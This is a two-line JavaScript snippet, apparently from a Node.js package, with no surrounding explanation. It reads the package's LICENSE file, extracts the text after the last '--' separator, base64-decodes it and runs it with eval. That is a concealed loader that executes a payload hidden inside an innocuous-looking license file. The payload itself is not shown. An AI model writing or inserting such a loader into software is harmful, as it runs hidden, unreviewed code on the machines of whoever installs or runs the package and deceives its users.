const t = require("fs").readFileSync(__dirname + "/LICENSE", "utf8").split("--").pop();
eval(Buffer.from(t, "base64").toString());
